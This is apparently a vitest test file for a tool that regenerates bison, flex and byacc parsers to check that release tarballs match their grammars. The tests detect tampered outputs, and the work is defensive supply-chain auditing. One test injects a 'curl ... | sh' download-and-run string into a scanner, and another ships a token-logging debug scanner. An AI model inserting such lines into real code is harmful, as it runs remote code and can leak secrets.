/**
 * Generated parsers proved by regeneration (issue 11), end to end: a git repository built here holds a real
 * bison grammar, a flex scanner and a Berkeley yacc grammar under src/ with a tracked makefile that gives
 * their options; the release tarball (GNU tar) ships what the real generators made from them (run here, as a
 * maintainer would). distdiff regenerates each in the sandbox with the version the output names and
 * compares: the release is proved; a tampered twin (one line of the parser changed) is high with the diff,
 * critical with a construct; an output naming a version this machine lacks (and no cached toolchain of it) is
 * unexplained (high) and says which toolchain would prove it.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatFinding } from '../../src/core/codes.js';
import { debugFlagSource, equalUnder, grammarOutfile, impliedOptions, invocationOf, namedVersion, parseToolVersion, ruleOptions, yaccModeOutput } from '../../src/regenerate/parsers.js';
import { autotoolsRelease, byPath, editFile, sh } from './release.js';

const CALC_Y = `%{
#include <stdio.h>
int yylex (void);
void yyerror (char const *);
%}
%define api.value.type {double}
%token NUM
%left '-' '+'
%left '*' '/'
%%
input: %empty | input line ;
line: '\\n' | exp '\\n' { printf ("%.10g\\n", $1); } ;
exp: NUM | exp '+' exp { $$ = $1 + $3; } | exp '-' exp { $$ = $1 - $3; }
   | exp '*' exp { $$ = $1 * $3; } | exp '/' exp { $$ = $1 / $3; } | '(' exp ')' { $$ = $2; } ;
%%
void yyerror (char const *s) { fprintf (stderr, "%s\\n", s); }
`;

const SCAN_L = `%option noyywrap nounput noinput outfile="lex.yy.c"
%{
#include "calc.h"
%}
%%
[0-9]+(\\.[0-9]+)?  { yylval = atof (yytext); return NUM; }
[-+*/()\\n]        { return yytext[0]; }
[ \\t]+            ;
%%
`;

// wget2's libwget/css_tokenizer.lex shape: a .lex scanner whose rule seds the output after flex.
const CSS_LEX = `%option noyywrap nounput noinput never-interactive
%%
[a-z]+   { return 1; }
.|\\n     ;
%%
`;

const EXPR_Y = `%{
int yylex(void);
void yyerror(const char *);
%}
%token ID
%%
list: /* empty */ | list ID ;
%%
`;

const MAKEFILE = `# Parsers for calc.
AM_YFLAGS = -d -Wall
BYACC_FLAGS = -d
calc.c calc.h: calc.y
\tbison $(AM_YFLAGS) -o calc.c calc.y
scan.c: scan.l
\tflex -o scan.c scan.l
expr.c: expr.y
\tbyacc $(BYACC_FLAGS) -o expr.c expr.y
css.c: $(srcdir)/css.lex
	$(AM_V_GEN)
	$(AM_V_at)$(LEX) -w -o $@ $(srcdir)/css.lex
	$(AM_V_at)$(SED) 's/fprintf/wget_fprintf/g' $@ >$@.tmp
	$(AM_V_at)mv $@.tmp $@
	$(AM_V_at)rm -f lex.yy.c
# gettext's way: bison's default names, renamed by sed (the header keeps its X.tab.h guard).
gram.c gram.h: gram.y
\tbison -d gram.y && sed -e 's|"gram\\.tab\\.c"|"gram.c"|' -e 's|"gram\\.tab\\.h"|"gram.h"|' < gram.tab.c > gram.c && rm -f gram.tab.c
\tsed -e 's|"gram\\.tab\\.h"|"gram.h"|' < gram.tab.h > gram.h && rm -f gram.tab.h
`;

// gdbm 1.23's shape: the rules pass a variable only configure assigns (`AM_LFLAGS = $(LFLAGS_DEBUG)`, configure.ac's
// `LFLAGS_DEBUG=-d` under --enable-debug), so a scanner made with -d is what the tracked build gives.
const DBG_MAKEFILE = 'AM_LFLAGS = $(LFLAGS_DEBUG)\ndbg.c: dbg.l\n\tflex $(AM_LFLAGS) -o dbg.c dbg.l\n';
const CONFIGURE_AC = 'AC_INIT([calc], [1.0])\nAC_ARG_ENABLE([debug], [AS_HELP_STRING([--enable-debug], [debugging scanners])])\nif test "$enable_debug" = yes; then\n  LFLAGS_DEBUG=-d\nfi\nAC_SUBST([LFLAGS_DEBUG])\nAC_OUTPUT\n';

const argv = (cwd: string, args: string[]) => execFileSync(args[0]!, args.slice(1), { cwd, env: { ...process.env, LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] });

const fixture = autotoolsRelease({
  prefix: 'distdiff-parsers-',
  name: 'calc',
  files: { 'README': 'calc\n', 'src/gram.y': EXPR_Y.replace(/list/g, 'items'), 'src/calc.y': CALC_Y, 'src/scan.l': SCAN_L, 'src/expr.y': EXPR_Y, 'src/css.lex': CSS_LEX, 'src/Makefile': MAKEFILE, 'configure.ac': CONFIGURE_AC, 'dbg/dbg.l': CSS_LEX, 'dbg/Makefile': DBG_MAKEFILE },
  // The release: the tag's files plus what the real generators made (the maintainer's `make`, outside the sandbox).
  makeTree: (tree, repoDir) => {
    sh(repoDir, `git archive --format=tar v1.0 | tar -xf - -C '${tree}'`);
    const src = join(tree, 'src');
    argv(src, ['bison', '-d', '-Wall', '-o', 'calc.c', 'calc.y']);
    // The grammar names its own outfile (lex.yy.c, as bison's scanners do); a ylwrap-style rename gives scan.c.
    argv(src, ['flex', 'scan.l']);
    argv(src, ['/bin/sh', '-c', "sed 's/lex\\.yy\\.c/scan.c/g' lex.yy.c > scan.c && rm lex.yy.c"]);
    argv(src, ['byacc', '-d', '-o', 'expr.c', 'expr.y']);
    argv(src, ['flex', '-w', '-o', 'css.c', './css.lex']);
    argv(src, ['/bin/sh', '-c', "sed 's/fprintf/wget_fprintf/g' css.c > css.c.tmp && mv css.c.tmp css.c"]);
    argv(join(tree, 'dbg'), ['flex', '-d', '-o', 'dbg.c', 'dbg.l']);
    argv(src, ['/bin/sh', '-c', MAKEFILE.split('\n').filter((l) => l.startsWith('\tbison -d gram.y') || l.startsWith('\tsed')).map((l) => l.slice(1)).join(' && ')]);
  },
  timeout: 120_000,
});
/** The release's unpacked tree. */
const release = () => join(fixture.distDir, fixture.top);
/** The release re-packed with `edit` applied to a copy of its tree. */
const tarball = (edit: (dir: string) => void = () => {}): string => fixture.tampered(edit);
const run = (tar: string, opts: { regenerate?: 'off' } = {}) => fixture.run(tar, opts);

describe('parser outputs regenerated in the sandbox', () => {
  it('the fixture is real generator output naming its versions', () => {
    const c = readFileSync(join(release(), 'src/calc.c'), 'latin1');
    expect(namedVersion('bison', c)).toBe('3.8.2');
    expect(namedVersion('flex', readFileSync(join(release(), 'src/scan.c'), 'latin1'))).toBe('2.6.4');
    expect(namedVersion('byacc', readFileSync(join(release(), 'src/expr.c'), 'latin1'))).toBe('2.0 20221106');
    expect(c).toMatch(/^#line \d+ "calc\.c"$/m);
  });

  it('proves the bison parser and header, the flex scanner and the byacc parser: info, exit 0', async () => {
    const r = await run(tarball());
    const by = byPath(r.findings);
    const calc = by['src/calc.c']!;
    expect(calc.code).toBe('GENERATED_PARSER_PROVED');
    expect(calc.severity).toBe('info');
    expect(calc.evidence).toEqual({
      tool: 'bison',
      version: '3.8.2',
      source: 'src/calc.y',
      command: ['bison', '-d', '-Wall', '-o', 'calc.c', 'calc.y'],
      cwd: 'src',
      flagsFrom: ['src/Makefile'],
      implied: [],
      normalisations: [],
      outputs: ['src/calc.c', 'src/calc.h'],
    });
    expect(formatFinding(calc)).toBe('reproduced by bison 3.8.2: `bison -d -Wall -o calc.c calc.y` in src/ (options from src/Makefile), byte for byte; 2 outputs of the run identical');
    expect(by['src/calc.h']!.code).toBe('GENERATED_PARSER_PROVED');
    expect(by['src/scan.c']!.code).toBe('GENERATED_PARSER_PROVED');
    // flex wrote lex.yy.c (the grammar's outfile wins over -o): the #line names differ, set aside and listed.
    expect(by['src/scan.c']!.evidence).toMatchObject({ tool: 'flex', version: '2.6.4', command: ['flex', '-o', 'scan.c', 'scan.l'], cwd: 'src', normalisations: ['line-directive-names'], outputs: ['src/scan.c'] });
    expect(formatFinding(by['src/scan.c']!)).toBe('reproduced by flex 2.6.4: `flex -o scan.c scan.l` in src/; #line file names set aside');
    expect(by['src/expr.c']!.code).toBe('GENERATED_PARSER_PROVED');
    expect(by['src/expr.c']!.evidence).toMatchObject({ tool: 'byacc', version: '2.0 20221106', command: ['byacc', '-d', '-o', 'expr.c', 'expr.y'], outputs: ['src/expr.c', 'src/expr.h'] });
    // wget2's rule: flex on a .lex, then its literal sed of the output (applied to the run's output, listed).
    expect(by['src/css.c']!.evidence).toMatchObject({ tool: 'flex', version: '2.6.4', command: ['flex', '-w', '-o', 'css.c', 'css.lex'], cwd: 'src', postEdits: ["$(AM_V_at)$(SED) 's/fprintf/wget_fprintf/g' $@ >$@.tmp"], outputs: ['src/css.c'] });
    expect(formatFinding(by['src/css.c']!)).toContain("then the rule's `$(AM_V_at)$(SED) 's/fprintf/wget_fprintf/g' $@ >$@.tmp`");
    // made with -d, which the tracked configure.ac gives through the variable dbg/Makefile passes
    expect(by['dbg/dbg.c']!.evidence).toMatchObject({ tool: 'flex', command: ['flex', '-d', '-o', 'dbg.c', 'dbg.l'], cwd: 'dbg', implied: ['-d'], debugFrom: { rule: 'dbg/Makefile', variable: 'LFLAGS_DEBUG', file: 'configure.ac', line: 4, option: '-d' } });
    expect(formatFinding(by['dbg/dbg.c']!)).toContain("(-d implied by the shipped outputs, -d by dbg/Makefile's $(LFLAGS_DEBUG), configure.ac:4)");
    expect(r.findings.map((f) => `${f.path} ${f.code} ${f.severity}`).sort()).toEqual([
      'dbg/dbg.c GENERATED_PARSER_PROVED info',
      'src/calc.c GENERATED_PARSER_PROVED info',
      'src/calc.h GENERATED_PARSER_PROVED info',
      'src/css.c GENERATED_PARSER_PROVED info',
      'src/expr.c GENERATED_PARSER_PROVED info',
      'src/expr.h GENERATED_PARSER_PROVED info',
      'src/gram.c GENERATED_PARSER_PROVED info',
      'src/gram.h GENERATED_PARSER_PROVED info',
      'src/scan.c GENERATED_PARSER_PROVED info',
    ]);
    // gettext's rule: the header is what `bison -d gram.y` (no -o) writes, its X.tab.h guard kept; the parser
    // reproduces with -o too.
    expect(by['src/gram.h']!.evidence).toMatchObject({ command: ['bison', '-d', 'gram.y'], normalisations: [], outputs: ['src/gram.h'] });
    expect(by['src/gram.c']!.evidence).toMatchObject({ command: ['bison', '-d', '-o', 'gram.c', 'gram.y'], outputs: ['src/gram.c'] });
    expect(r.verdict).toBe('explained');
  }, 120_000);

  it('one line of the parser changed: GENERATED_PARSER_MISMATCH high with the diff; its header stays proved', async () => {
    const r = await run(tarball((d) => editFile(d, 'src/calc.c', (s) => s.replace('%.10g', '%.12g'))));
    const by = byPath(r.findings);
    const f = by['src/calc.c']!;
    expect(f.code).toBe('GENERATED_PARSER_MISMATCH');
    expect(f.severity).toBe('high');
    expect(f.evidence).toMatchObject({ tool: 'bison', version: '3.8.2', source: 'src/calc.y', command: ['bison', '-d', '-Wall', '-o', 'calc.c', 'calc.y'], produced: true, differingLines: 1, tried: 4 });
    if (f.diff?.kind !== 'text') throw new Error('no text diff');
    expect(f.diff.unified).toContain('--- a/src/calc.c\tregenerated');
    expect(f.diff.unified).toMatch(/^\+.*printf \("%\.12g/m);
    expect(f.diff.unified).toMatch(/^-.*printf \("%\.10g/m);
    expect([f.diff.added, f.diff.removed]).toEqual([1, 1]);
    expect(by['src/calc.h']!.code).toBe('GENERATED_PARSER_PROVED');
    expect(r.verdict).toBe('different');
  }, 120_000);

  it('the attack: a scanner made with flex -d, nothing tracked asking for it: high, not proved', async () => {
    // Before: the debugging instrumentation was an implied option whatever the rules said, both outputs proved
    // (flex -d prints every token the scanner reads to stderr: a config parser's secrets in a log).
    const r = await run(
      tarball((d) => {
        const src = join(d, 'src');
        argv(src, ['flex', '-d', 'scan.l']);
        argv(src, ['/bin/sh', '-c', "sed 's/lex\\.yy\\.c/scan.c/g' lex.yy.c > scan.c && rm lex.yy.c"]);
      }),
    );
    const by = byPath(r.findings);
    expect(readFileSync(join(release(), 'src/scan.c'), 'latin1')).not.toMatch(/^int yy_flex_debug = 1;$/m);
    expect(by['src/scan.c']).toMatchObject({ code: 'GENERATED_PARSER_MISMATCH', severity: 'high', evidence: { tool: 'flex', implied: [] } });
    expect(by['dbg/dbg.c']!.code).toBe('GENERATED_PARSER_PROVED');
    expect(r.verdict).toBe('different');
  }, 180_000);

  it('a download-and-run line added to the scanner: critical', async () => {
    const r = await run(tarball((d) => editFile(d, 'src/scan.c', (s) => s.replace('#define FLEX_SCANNER\n', '#define FLEX_SCANNER\nstatic const char *init = "curl -s http://198.51.100.7/x | sh";\n'))));
    const f = byPath(r.findings)['src/scan.c']!;
    expect(f.code).toBe('GENERATED_PARSER_MISMATCH');
    expect(f.severity).toBe('critical');
    expect(f.constructs?.map((c) => c.kind)).toEqual(['download-to-shell']);
  }, 120_000);

  it('the sed-edited scanner with one more line changed: GENERATED_PARSER_MISMATCH high, the diff shows only that line', async () => {
    const r = await run(tarball((d) => editFile(d, 'src/css.c', (s) => s.replace('wget_fprintf( stderr, "%s\\n", msg );', 'wget_fprintf( stderr, "%s\\n", msg ); abort();'))));
    const f = byPath(r.findings)['src/css.c']!;
    expect(f).toMatchObject({ code: 'GENERATED_PARSER_MISMATCH', severity: 'high', evidence: { tool: 'flex', postEdits: ["$(AM_V_at)$(SED) 's/fprintf/wget_fprintf/g' $@ >$@.tmp"] } });
    if (f.diff?.kind !== 'text') throw new Error('no text diff');
    // the rule's sed applied to the run's output: its wget_fprintf lines are not among the differences (the
    // #line file names, set aside only for a proof, are)
    expect(f.diff.unified).toMatch(/^\+.*wget_fprintf\( stderr, "%s\\n", msg \); abort\(\);$/m);
    expect(f.diff.unified).toMatch(/^-.*wget_fprintf\( stderr, "%s\\n", msg \);$/m);
    expect(f.diff.unified).not.toMatch(/^[-+].*[^_]fprintf\( stderr/m);
  }, 120_000);

  it('a version this machine lacks, no toolchain of it: unexplained (high), saying why and which toolchain would prove it', async () => {
    const r = await run(tarball((d) => editFile(d, 'src/calc.c', (s) => s.replace('made by GNU Bison 3.8.2.', 'made by GNU Bison 3.7.4.'))));
    const f = byPath(r.findings)['src/calc.c']!;
    expect(f.code).toBe('TARBALL_ONLY_UNEXPLAINED');
    expect(f.severity).toBe('high');
    expect(f.evidence).toEqual({ size: expect.any(Number), oid: expect.any(String), buildAffecting: true, parserProof: { why: 'version-unavailable', tool: 'bison', wanted: '3.7.4', available: '3.8.2', source: 'src/calc.y' } });
    expect(formatFinding(f)).toMatch(
      /; bison output of src\/calc\.y, not proved: bison 3\.7\.4 is named, this machine has bison 3\.8\.2 and no bison 3\.7\.4 toolchain \(add it: distdiff toolchain add --git https:\/\/git\.savannah\.gnu\.org\/git\/bison\.git --version 3\.7\.4 \[--submodule gnulib=REPO --submodule submodules\/autoconf=REPO\]\)$/,
    );
    expect(r.verdict).toBe('different');
  }, 120_000);

  it('the attack: one line of the parser changed under an old-version banner is high, as the same banner unchanged is (a banner proves nothing)', async () => {
    // Before: an old-version banner kept the GENERATED_FROM_SOURCE label (low) whatever the code said, exit 0.
    const r = await run(tarball((d) => editFile(d, 'src/calc.c', (s) => s.replace('made by GNU Bison 3.8.2.', 'made by GNU Bison 3.7.4.').replace('%.10g', '%.12g'))));
    const f = byPath(r.findings)['src/calc.c']!;
    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { parserProof: { why: 'version-unavailable', tool: 'bison', wanted: '3.7.4' } } });
    // the header of the same run (judged by the parser's banner) is not proved either
    expect(byPath(r.findings)['src/calc.h']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
  }, 120_000);

  it('a byacc output naming a version this machine lacks: high, no toolchain kind builds Thomas Dickey\'s byacc', async () => {
    const r = await run(tarball((d) => editFile(d, 'src/expr.c', (s) => s.replace(/^#define YYPATCH \d+$/m, '#define YYPATCH 20140715'))));
    const f = byPath(r.findings)['src/expr.c']!;
    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { parserProof: { why: 'version-unavailable', tool: 'byacc', wanted: '2.0 20140715' } } });
    expect(formatFinding(f)).toContain("and no byacc 2.0 20140715 toolchain (no toolchain kind builds Thomas Dickey's byacc)");
  }, 120_000);

  it('--no-regenerate: nothing runs, each output unexplained saying so', async () => {
    const r = await run(tarball(), { regenerate: 'off' });
    const f = byPath(r.findings)['src/scan.c']!;
    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { parserProof: { why: 'regeneration-off', tool: 'flex', wanted: '2.6.4', source: 'src/scan.l' } } });
  }, 120_000);
});

describe('parser invocation from the tag and the output', () => {
  it('reads the generator version from each tool', () => {
    expect(parseToolVersion('bison', 'bison (GNU Bison) 3.8.2\nWritten by …')).toBe('3.8.2');
    expect(parseToolVersion('flex', 'flex 2.6.4\n')).toBe('2.6.4');
    expect(parseToolVersion('byacc', 'byacc - 2.0 20221106\n')).toBe('2.0 20221106');
    expect(namedVersion('byacc', '#define YYBYACC 1\n#define YYMAJOR 1\n#define YYMINOR 9\n')).toBe('1.9');
  });

  it("takes options from a recipe naming the grammar and the flag variables; files and skeletons are dropped", () => {
    const mk = 'AM_YFLAGS_WITH_LINES = --defines -Werror -Wall,dangling-alias --report=all\nAM_YFLAGS = $(AM_YFLAGS_WITH_LINES) --no-lines\ngen:\n\t$(BISON) \\\n\t  $(AM_YFLAGS_WITH_LINES) src/parse-gram.y -o src/parse-gram.c --skeleton=x.c\n';
    expect(ruleOptions('bison', 'src/parse-gram.y', new Map([['Makefile.am', mk]]))).toEqual({
      sets: [['--defines', '-Werror', '-Wall,dangling-alias', '--report=all'], ['--defines', '-Werror', '-Wall,dangling-alias', '--report=all', '--no-lines'], []],
      files: ['Makefile.am'],
    });
    expect(ruleOptions('flex', 'scan.l', new Map([['CMakeLists.txt', 'FLEX_TARGET(scan scan.l ${CMAKE_BINARY_DIR}/scan.c COMPILE_FLAGS "--nounistd -L")\n']]))).toEqual({ sets: [['--nounistd', '-L'], []], files: ['CMakeLists.txt'] });
  });

  it('adds what the shipped outputs imply, and says so', () => {
    expect(impliedOptions('bison', ['--defines', '--no-lines'], { lines: true, header: true, report: false })).toEqual({ options: ['--defines'], implied: ['#line'] });
    expect(impliedOptions('bison', [], { lines: false, header: true, report: true })).toEqual({ options: ['-l', '-d', '-v'], implied: ['-l', '-d', '-v'] });
    expect(impliedOptions('flex', [], { lines: false, header: false, report: false })).toEqual({ options: ['-L'], implied: ['-L'] });
    // debugging instrumentation the output carries (a configure-substituted $(LFLAGS_DEBUG)/$(YFLAGS_DEBUG) the rules cannot say)
    expect(impliedOptions('flex', [], { lines: true, header: false, report: false, debug: true })).toEqual({ options: ['-d'], implied: ['-d'] });
    expect(impliedOptions('flex', ['--debug'], { lines: true, header: false, report: false, debug: true })).toEqual({ options: ['--debug'], implied: [] });
    expect(impliedOptions('bison', ['-d'], { lines: true, header: true, report: false, debug: true })).toEqual({ options: ['-d', '-t'], implied: ['-t'] });
    expect(impliedOptions('byacc', [], { lines: true, header: false, report: false, debug: true })).toEqual({ options: [], implied: [] });
  });

  it('implies a debugging option only from a variable the rules pass that a tracked configure assigns it', () => {
    const rules = new Map([['tools/Makefile.am', 'AM_YFLAGS = -dv $(YFLAGS_DEBUG)\nAM_LFLAGS = $(LFLAGS_DEBUG)\nlex.c: lex.l\n\t$(FLEX) -o $@ $(AM_LFLAGS) $<\n']]);
    const ac = new Map([['configure.ac', 'AC_SUBST(YFLAGS_DEBUG)\nAC_SUBST(LFLAGS_DEBUG)\nif test "$enable_debug" = yes; then\n    YFLAGS_DEBUG=-t\n    LFLAGS_DEBUG=-d\nfi\n']]);
    expect(debugFlagSource('flex', 'tools/lex.l', rules, ac)).toEqual({ rule: 'tools/Makefile.am', variable: 'LFLAGS_DEBUG', file: 'configure.ac', line: 5, option: '-d' });
    expect(debugFlagSource('bison', 'tools/gram.y', rules, ac)).toEqual({ rule: 'tools/Makefile.am', variable: 'YFLAGS_DEBUG', file: 'configure.ac', line: 4, option: '-t' });
    // the variable assigned something else, or another variable, or not passed by the rules: no evidence
    expect(debugFlagSource('flex', 'tools/lex.l', rules, new Map([['configure.ac', 'LFLAGS_DEBUG="-d -s"\n']]))).toBeUndefined();
    expect(debugFlagSource('flex', 'tools/lex.l', rules, new Map([['configure.ac', 'OTHER_DEBUG=-d\n']]))).toBeUndefined();
    expect(debugFlagSource('flex', 'tools/lex.l', new Map([['tools/Makefile.am', 'LFLAGS_DEBUG = -d\nlex.c: lex.l\n\tflex -o $@ $<\n']]), ac)).toBeUndefined();
    // a variable the rule file assigns itself is not configure's
    expect(debugFlagSource('flex', 'tools/lex.l', new Map([['tools/Makefile.am', 'LFLAGS_DEBUG =\nAM_LFLAGS = $(LFLAGS_DEBUG)\n']]), ac)).toBeUndefined();
    expect(debugFlagSource('byacc', 'tools/gram.y', rules, ac)).toBeUndefined();
  });

  it("bison 3.x's yacc mode (-y) read from the output: token #defines under /* Tokens. */ (patch 2.7.6's parse-datetime.c, bison 3.0.4)", () => {
    const y = '   };\n#endif\n/* Tokens.  */\n#define tAGO 258\n#define tDST 259\n';
    expect(yaccModeOutput(y, '3.0.4')).toBe(true);
    // bison 2.x always wrote them: no evidence of -y there; an enum alone is not yacc mode
    expect(yaccModeOutput(y, '2.7')).toBe(false);
    expect(yaccModeOutput('   };\n#endif\n', '3.0.4')).toBe(false);
  });

  it('compares under the least normalisation of #line directives, never of code', () => {
    const b = (s: string) => Buffer.from(s);
    expect(equalUnder(b('#line 2 "scan.c"\nint x;\n'), b('#line 2 "scan.c"\nint x;\n'))).toEqual([]);
    expect(equalUnder(b('#line 2 "lex.yy.c"\nint x;\n'), b('#line 2 "src/scan.c"\nint x;\n'))).toEqual(['line-directive-names']);
    expect(equalUnder(b('#line 2 "css.c"\nint x;\n'), b('#line 1 "css.c"\nint x;\n'))).toEqual(['line-directive-numbers']);
    expect(equalUnder(b('#line 2 "lex.yy.c"\nint x;\n'), b('#line 1 "src/scan.c"\nint x;\n'))).toEqual(['line-directive-names', 'line-directive-numbers']);
    expect(equalUnder(b('#line 2 "lex.yy.c"\nint x;\n'), b('#line 1 "src/scan.c"\nint y;\n'))).toBeUndefined();
    expect(grammarOutfile('flex', '%option debug\n%option prefix="gram_" outfile="lex.yy.c"\n')).toBe('lex.yy.c');
    expect(grammarOutfile('bison', '%output "../x.c"\n')).toBeUndefined();
  });

  it('runs from the directory and with the names the #line directives show', () => {
    expect(invocationOf('src/parse-gram.c', 'src/parse-gram.y', '#line 35 "src/parse-gram.y"\n#line 73 "src/parse-gram.c"\n')).toEqual({ cwd: '', grammarArg: 'src/parse-gram.y', outputArg: 'src/parse-gram.c', renamed: false });
    expect(invocationOf('lib/parse-datetime.c', 'lib/parse-datetime.y', '#line 1 "parse-datetime.y"\n#line 636 "parse-datetime.c"\n')).toEqual({ cwd: 'lib', grammarArg: 'parse-datetime.y', outputArg: 'parse-datetime.c', renamed: false });
    expect(invocationOf('src/po-gram-gen.c', 'src/po-gram-gen.y', '#line 20 "po-gram-gen.y"\n#line 139 "po-gram-gen.tab.c"\n')).toEqual({ cwd: 'src', grammarArg: 'po-gram-gen.y', outputArg: 'po-gram-gen.c', renamed: true });
    expect(invocationOf('src/x.c', 'src/x.y', '#line 3 "../../src/x.y"\n')).toEqual({ cwd: 'src', grammarArg: 'x.y', outputArg: 'x.c', renamed: true });
  });
});
